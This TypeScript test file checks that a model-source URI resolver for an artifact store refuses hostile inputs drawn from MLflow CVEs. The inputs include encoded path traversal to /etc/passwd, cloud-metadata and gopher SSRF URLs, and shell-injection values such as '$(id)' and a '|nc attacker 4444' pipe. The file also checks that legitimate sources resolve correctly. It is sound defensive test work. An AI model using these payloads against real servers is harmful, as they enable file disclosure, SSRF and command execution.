import { pathToFileURL } from 'node:url';
import { type ArtifactStore, FilesystemArtifactStore, S3ArtifactStore } from '@cairn/artifacts';
import { AppError } from '@cairn/rpc';
import { MAX_MODEL_SOURCE_LENGTH, type ModelSourceReason, resolveModelSource } from './model-source';

// Neither store touches the disk or the network to map URIs: no server is needed here.
const ROOT = '/srv/cairn/artifacts';
const fsStore = new FilesystemArtifactStore(ROOT);
const s3Store = new S3ArtifactStore({
  bucket: 'cairn-artifacts',
  prefix: 'mlruns',
  region: 'us-east-1',
  credentials: { accessKeyId: 'unused', secretAccessKey: 'unused' },
});
afterAll(() => s3Store.close());

const RUN = '0a1b2c3d4e5f67890a1b2c3d4e5f6789';
const OUTSIDE_RUN = 'ffffffffffffffffffffffffffffffff';

function contextFor(store: ArtifactStore) {
  return {
    store,
    runArtifactUri: async (runId: string): Promise<string | undefined> => {
      if (runId === RUN) return store.uriFor(`1/${RUN}/artifacts`);
      // A run whose experiment was given an artifact location outside the store.
      if (runId === OUTSIDE_RUN) return 's3://someone-elses-bucket/x/artifacts';
      return undefined;
    },
  };
}

async function refusal(source: string, store: ArtifactStore = fsStore): Promise<AppError> {
  try {
    await resolveModelSource(source, contextFor(store));
  } catch (err) {
    if (err instanceof AppError) return err;
    throw err;
  }
  throw new Error(`${JSON.stringify(source)} was accepted`);
}

/** Hostile sources from the CVEs in ANCHORS.md (and their variants), with the reason each must get. */
const HOSTILE: Array<[string, ModelSourceReason]> = [
  // Empty and oversized.
  ['', 'MODEL_SOURCE_EMPTY'],
  ['   ', 'MODEL_SOURCE_EMPTY'],
  [`runs:/${RUN}/${'a'.repeat(MAX_MODEL_SOURCE_LENGTH)}`, 'MODEL_SOURCE_TOO_LONG'],
  // CVE-2023-6977: local files and /proc/self/root.
  ['file:///etc/', 'MODEL_SOURCE_OUTSIDE_STORE'],
  ['file:///etc/passwd', 'MODEL_SOURCE_OUTSIDE_STORE'],
  ['//proc/self/root/etc/passwd', 'MODEL_SOURCE_NO_SCHEME'],
  ['//proc/self/root', 'MODEL_SOURCE_NO_SCHEME'],
  [`file:///proc/self/root${ROOT}/1/${RUN}/artifacts/model`, 'MODEL_SOURCE_OUTSIDE_STORE'],
  // Separator-aware prefix: a sibling that merely starts with the root's name.
  [`file://${ROOT}not/1/${RUN}/artifacts/model`, 'MODEL_SOURCE_OUTSIDE_STORE'],
  [`file://${ROOT}`, 'MODEL_SOURCE_OUTSIDE_STORE'],
  [`file://evil.example${ROOT}/1/${RUN}/artifacts/model`, 'MODEL_SOURCE_OUTSIDE_STORE'],
  // CVE-2024-3573: empty schemes and local paths read as local files.
  ['/etc/passwd', 'MODEL_SOURCE_NO_SCHEME'],
  [`${ROOT}/1/${RUN}/artifacts/model`, 'MODEL_SOURCE_NO_SCHEME'],
  ['relative/model', 'MODEL_SOURCE_NO_SCHEME'],
  [':/etc/passwd', 'MODEL_SOURCE_NO_SCHEME'],
  ['C:/Windows/System32', 'MODEL_SOURCE_UNSUPPORTED_SCHEME'],
  // CVE-2023-1177 / CVE-2023-2356: traversal inside every scheme, plain and encoded.
  [`file:${ROOT}/../../../etc/passwd`, 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['file://path/to/../../../../some/where/you/should/not/be', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['mlflow-artifacts://host:5000/../../../../etc', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['mlflow-artifacts://host:5000/..%2f..%2f..%2f..%2f', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['mlflow-artifacts:/1/x/artifacts/%252e%252e%252f%252e%252e%252fetc', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['mlflow-artifacts:/%25252e%25252e/secrets', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['http://host:5000/api/2.0/mlflow-artifacts/artifacts/../../../../etc', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['https://host/api/2.0/mlflow-artifacts/artifacts/%2e%2e/%2e%2e/etc', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['s3://cairn-artifacts/mlruns/1/x/artifacts/../../../other', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['s3:/my_bucket/models/path/../../other/path', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  [`runs:/${RUN}/../../../etc/passwd`, 'MODEL_SOURCE_PATH_TRAVERSAL'],
  [`runs:/${RUN}/%2E%2E/%2E%2E/other-run`, 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['runs:/..', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  ['file:..', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  // Fullwidth dots and solidus become '../' under NFKC normalization.
  ['mlflow-artifacts:/1/x/artifacts/\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  // CVE-2024-1558: an encoded '#' that hides the traversal behind a fragment once decoded.
  ['http://host/xxx%23/../../../../etc/FLAG.txt', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  // CVE-2023-2780: backslash traversal, plain, encoded and fullwidth.
  ['mlflow-artifacts:/1/x/artifacts/model\\..\\..\\etc', 'MODEL_SOURCE_BACKSLASH'],
  [`runs:/${RUN}/model%5c..%5c..%5cetc`, 'MODEL_SOURCE_BACKSLASH'],
  [`runs:/${RUN}/model%255c..`, 'MODEL_SOURCE_BACKSLASH'],
  ['mlflow-artifacts:/1/x/artifacts/model\uff3cetc', 'MODEL_SOURCE_BACKSLASH'],
  // CVE-2023-6909, CVE-2024-1483/2928: queries and fragments in artifact locations.
  ['s3://cairn-artifacts/mlruns/1/x/artifacts?a=../..', 'MODEL_SOURCE_QUERY_OR_FRAGMENT'],
  ['http://host/x#/../../etc', 'MODEL_SOURCE_QUERY_OR_FRAGMENT'],
  ['mlflow-artifacts:/1/x/artifacts/model#frag', 'MODEL_SOURCE_QUERY_OR_FRAGMENT'],
  [`runs:/${RUN}/model%3Fx=1`, 'MODEL_SOURCE_QUERY_OR_FRAGMENT'],
  [`runs:/${RUN}/model%2523frag`, 'MODEL_SOURCE_QUERY_OR_FRAGMENT'],
  // NUL and control characters (MLflow's `artifacts%00`).
  ['http://host:5000/api/2.0/mlflow-artifacts/artifacts%00', 'MODEL_SOURCE_INVALID_CHARACTERS'],
  [`runs:/${RUN}/model\n`, 'MODEL_SOURCE_INVALID_CHARACTERS'],
  [`runs:/${RUN}/model\ud800`, 'MODEL_SOURCE_INVALID_CHARACTERS'],
  // Undecodable or endlessly nested escapes (overlong UTF-8 dots).
  [`runs:/${RUN}/%c0%ae%c0%ae/etc`, 'MODEL_SOURCE_MALFORMED_ENCODING'],
  [
    `runs:/${RUN}/${Array.from({ length: 10 }).reduce<string>((s) => s.replace('%', '%25'), '%2e')}`,
    'MODEL_SOURCE_MALFORMED_ENCODING',
  ],
  // CVE-2026-0596 and CVE-2024-1593: shell metacharacters and ';' path parameters.
  ['m;$(id)', 'MODEL_SOURCE_SHELL_METACHARACTERS'],
  [`runs:/${RUN}/model;$(id)`, 'MODEL_SOURCE_SHELL_METACHARACTERS'],
  [`runs:/${RUN}/model\`id\``, 'MODEL_SOURCE_SHELL_METACHARACTERS'],
  [`runs:/${RUN}/model|nc attacker 4444`, 'MODEL_SOURCE_SHELL_METACHARACTERS'],
  ['mlflow-artifacts:/1/x/artifacts/model;jsessionid=1', 'MODEL_SOURCE_SHELL_METACHARACTERS'],
  [`runs:/${RUN}/model%3B%24%28id%29`, 'MODEL_SOURCE_SHELL_METACHARACTERS'],
  // Schemes that no store of ours can hold (and SSRF bait).
  ['http://host/model', 'MODEL_SOURCE_UNSUPPORTED_SCHEME'],
  ['https://169.254.169.254/latest/meta-data', 'MODEL_SOURCE_UNSUPPORTED_SCHEME'],
  ['gopher://127.0.0.1:6379/_INFO', 'MODEL_SOURCE_UNSUPPORTED_SCHEME'],
  ['ftp://host/model', 'MODEL_SOURCE_UNSUPPORTED_SCHEME'],
  ['gs://bucket/model', 'MODEL_SOURCE_UNSUPPORTED_SCHEME'],
  ['dbfs:/databricks/model', 'MODEL_SOURCE_UNSUPPORTED_SCHEME'],
  // A version cannot point at another version.
  ['models:/fraud/3', 'MODEL_SOURCE_MODELS_URI'],
  ['models:/fraud@champion', 'MODEL_SOURCE_MODELS_URI'],
  ['MODELS:/fraud/Production', 'MODEL_SOURCE_MODELS_URI'],
  ['models:/m-0123456789abcdef', 'MODEL_SOURCE_MODELS_URI'],
  // Other hosts and workspaces.
  ['mlflow-artifacts://evil.example:5000/1/x/artifacts/model', 'MODEL_SOURCE_FOREIGN_HOST'],
  [`runs://my-databricks-profile/${RUN}/model`, 'MODEL_SOURCE_FOREIGN_HOST'],
  // Structurally wrong.
  ['runs:/', 'MODEL_SOURCE_MALFORMED'],
  [`runs:${RUN}/model`, 'MODEL_SOURCE_MALFORMED'],
  ['runs:/-not-a-run/model', 'MODEL_SOURCE_MALFORMED'],
  ['mlflow-artifacts:1/x/artifacts/model', 'MODEL_SOURCE_MALFORMED'],
  // The store root itself, other stores, other buckets and prefixes.
  ['mlflow-artifacts:/', 'MODEL_SOURCE_OUTSIDE_STORE'],
  ['s3://cairn-artifacts/mlruns/1/x/artifacts/model', 'MODEL_SOURCE_OUTSIDE_STORE'],
  [`runs:/${OUTSIDE_RUN}/model`, 'MODEL_SOURCE_OUTSIDE_STORE'],
  // A segment longer than any filesystem allows.
  [`runs:/${RUN}/${'a'.repeat(300)}`, 'MODEL_SOURCE_INVALID_PATH'],
];

const HOSTILE_ON_S3: Array<[string, ModelSourceReason]> = [
  ['s3://other-bucket/mlruns/1/x/artifacts/model', 'MODEL_SOURCE_OUTSIDE_STORE'],
  ['s3://cairn-artifacts/mlrunsnot/1/x/artifacts/model', 'MODEL_SOURCE_OUTSIDE_STORE'],
  ['s3://cairn-artifacts/mlruns', 'MODEL_SOURCE_OUTSIDE_STORE'],
  ['s3://cairn-artifacts/mlruns/1/x/artifacts/%2e%2e/%2e%2e/y', 'MODEL_SOURCE_PATH_TRAVERSAL'],
  [`file://${ROOT}/1/${RUN}/artifacts/model`, 'MODEL_SOURCE_OUTSIDE_STORE'],
  ['file:///etc/passwd', 'MODEL_SOURCE_OUTSIDE_STORE'],
];

describe('resolveModelSource: hostile sources', () => {
  it.each(HOSTILE)('refuses %j with %s (filesystem store)', async (source, reason) => {
    const err = await refusal(source);
    expect(err.reason).toBe(reason);
    expect(err.kind).toBe('invalid_argument');
    expect(err.details.source).toBe(source.slice(0, MAX_MODEL_SOURCE_LENGTH));
  });

  it.each(HOSTILE_ON_S3)('refuses %j with %s (S3 store)', async (source, reason) => {
    const err = await refusal(source, s3Store);
    expect(err.reason).toBe(reason);
    expect(err.kind).toBe('invalid_argument');
  });

  it('says why a models:/ source is refused', async () => {
    expect((await refusal('models:/fraud/3')).message).toMatch(
      /cannot point at another registered model or version/,
    );
  });

  it('reports an unknown run as NOT_FOUND', async () => {
    const err = await refusal('runs:/0123456789abcdef0123456789abcdef/model');
    expect(err.kind).toBe('not_found');
    expect(err.reason).toBe('RUN_NOT_FOUND');
    expect(err.details.runId).toBe('0123456789abcdef0123456789abcdef');
  });

  it('refuses runs:/ sources when there is no run projection to resolve them', async () => {
    const err = await resolveModelSource(`runs:/${RUN}/model`, { store: fsStore }).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(AppError);
    expect((err as AppError).reason).toBe('RUN_RESOLUTION_UNAVAILABLE');
  });

  it('never asks for a run when the source is refused before resolution', async () => {
    const lookups: string[] = [];
    const ctx = {
      store: fsStore,
      runArtifactUri: async (id: string) => {
        lookups.push(id);
        return fsStore.uriFor(`1/${id}/artifacts`);
      },
    };
    await expect(resolveModelSource(`runs:/${RUN}/%2e%2e/x`, ctx)).rejects.toThrow(AppError);
    expect(lookups).toEqual([]);
  });
});

describe('resolveModelSource: legitimate sources', () => {
  const runScope = `1/${RUN}/artifacts`;
  const LEGIT_FS: Array<[string, string, string]> = [
    [`runs:/${RUN}/model`, runScope, 'model'],
    [`runs:///${RUN}/model`, runScope, 'model'],
    [`runs:/${RUN}/model/`, runScope, 'model'],
    [`runs:/${RUN}`, runScope, ''],
    [
      `runs:/${RUN}/sub dir/model-v1.2+cpu/date=2024-01-01`,
      runScope,
      'sub dir/model-v1.2+cpu/date=2024-01-01',
    ],
    [`runs:/${RUN}/model..v2/data`, runScope, 'model..v2/data'],
    // A literal '%' stays as given: the file is named `100%25`.
    [`runs:/${RUN}/100%25`, runScope, '100%25'],
    [`mlflow-artifacts:/${runScope}/model`, runScope, 'model'],
    [`mlflow-artifacts:///${runScope}/model`, runScope, 'model'],
    [`mlflow-artifacts:/${runScope}`, runScope, ''],
    ['mlflow-artifacts:/shared/models/fraud.onnx', 'shared/models', 'fraud.onnx'],
    ['mlflow-artifacts:/single', 'single', ''],
    [`file://${ROOT}/${runScope}/model`, runScope, 'model'],
    [`file:${ROOT}/${runScope}/model`, runScope, 'model'],
    [`file://localhost${ROOT}/${runScope}/model/`, runScope, 'model'],
    [`FILE://${ROOT}/${runScope}/model/MLmodel`, runScope, 'model/MLmodel'],
    [`file://${ROOT}/models/fraud/model.onnx`, 'models/fraud', 'model.onnx'],
  ];

  it.each(LEGIT_FS)('resolves %j to scope %j, path %j (filesystem store)', async (source, scope, path) => {
    const resolved = await resolveModelSource(source, contextFor(fsStore));
    expect(resolved).toEqual({
      scope,
      path,
      uri: pathToFileURL(`${ROOT}/${path === '' ? scope : `${scope}/${path}`}`).href,
    });
  });

  const LEGIT_S3: Array<[string, string, string]> = [
    [`runs:/${RUN}/model`, runScope, 'model'],
    [`mlflow-artifacts:/${runScope}/model`, runScope, 'model'],
    [`s3://cairn-artifacts/mlruns/${runScope}/model`, runScope, 'model'],
    [`S3://cairn-artifacts/mlruns/${runScope}/model/`, runScope, 'model'],
    [`s3://cairn-artifacts/mlruns/${runScope}`, runScope, ''],
    ['s3://cairn-artifacts/mlruns/registry/fraud/3/model.onnx', 'registry/fraud/3', 'model.onnx'],
  ];

  it.each(LEGIT_S3)('resolves %j to scope %j, path %j (S3 store)', async (source, scope, path) => {
    const resolved = await resolveModelSource(source, contextFor(s3Store));
    expect(resolved).toEqual({
      scope,
      path,
      uri: `s3://cairn-artifacts/mlruns/${path === '' ? scope : `${scope}/${path}`}`,
    });
  });
});
